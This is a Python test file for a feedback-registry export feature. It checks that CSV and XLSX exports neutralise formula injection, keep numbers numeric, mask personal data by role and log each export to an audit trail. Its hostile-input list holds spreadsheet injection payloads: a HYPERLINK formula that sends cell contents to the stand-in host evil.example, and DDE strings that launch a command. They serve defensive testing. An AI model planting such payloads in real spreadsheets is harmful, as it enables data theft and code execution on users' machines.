from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from otklik.accounts.models import User
from otklik.audit.models import AuditEvent
from otklik.reports.cells import safe_text
from otklik.reports.tests.factory import make
from otklik.reports.tests.support import client_for

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+7 (999) 000-00-00 звоните",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def exported(user: str, fmt: str) -> list[list[Any]]:
    response = client_for(user).get(f"/reports/registry/export?format={fmt}")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    if fmt == "csv":
        return [row for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")]
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_text_cannot_become_a_formula_in_an_export(users: dict[str, User], fmt: str) -> None:
    for text in HOSTILE:
        make(
            2,
            dt.date(2026, 8, 1),
            text=text,
            title=text,
            masked_title=text,
            personal={"full_name": "=cmd|' /C calc'!A0", "inn": "500100732259"},
        )
    for user in ("leader", "analyst"):
        rows = exported(user, fmt)
        cells = [c for row in rows[1:] for c in row if isinstance(c, str) and c]
        assert cells
        for cell in cells:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (user, cell)
        texts = {row[rows[0].index("Текст")] for row in rows[1:]}
        assert texts == {"'" + t for t in HOSTILE}


def test_numbers_stay_numbers_in_the_xlsx_export(users: dict[str, User]) -> None:
    make(6, dt.date(2026, 8, 1), grades={"staff": 2})
    rows = exported("leader", "xlsx")
    assert rows[1][rows[0].index("Наименьшая оценка")] == 2
    assert isinstance(rows[1][rows[0].index("Поступило")], dt.datetime)


def test_a_role_without_the_right_gets_masked_text_and_no_personal_columns(users: dict[str, User]) -> None:
    make(
        2,
        dt.date(2026, 8, 1),
        text="Иванов Иван, тел. 89140000000, жалуется",
        masked_text="[ФИО], тел. [телефон], жалуется",
        personal={"full_name": "Иванов Иван Иванович", "phone": "89140000000"},
    )
    for fmt in ("csv", "xlsx"):
        analyst = exported("analyst", fmt)
        assert "ФИО" not in analyst[0] and "Телефон" not in analyst[0]
        flat = " ".join(str(c) for row in analyst for c in row)
        assert "Иванов" not in flat and "89140000000" not in flat and "[ФИО]" in flat
        leader = exported("leader", fmt)
        assert "ФИО" in leader[0]
        assert leader[1][leader[0].index("ФИО")] == "Иванов Иван Иванович"


def test_every_export_is_in_the_audit_log_with_its_filters(users: dict[str, User]) -> None:
    make(2, dt.date(2026, 8, 1), tone="negative")
    client_for("analyst").get("/reports/registry/export?format=csv&tone=negative")
    client_for("leader").get("/reports/registry/export?format=xlsx")
    events = list(AuditEvent.objects.filter(object_type="registry.feedback").order_by("id"))
    assert [(e.actor_label, e.action) for e in events] == [
        ("analyst", "export"),
        ("leader", "export_personal_data"),
    ]
    assert events[0].changes["filters"] == {"tone": "negative"} and events[0].changes["rows"] == 1


def test_safe_text_leaves_ordinary_text_alone() -> None:
    assert safe_text("Очередь 2 часа") == "Очередь 2 часа"
    assert safe_text("=1") == "'=1"
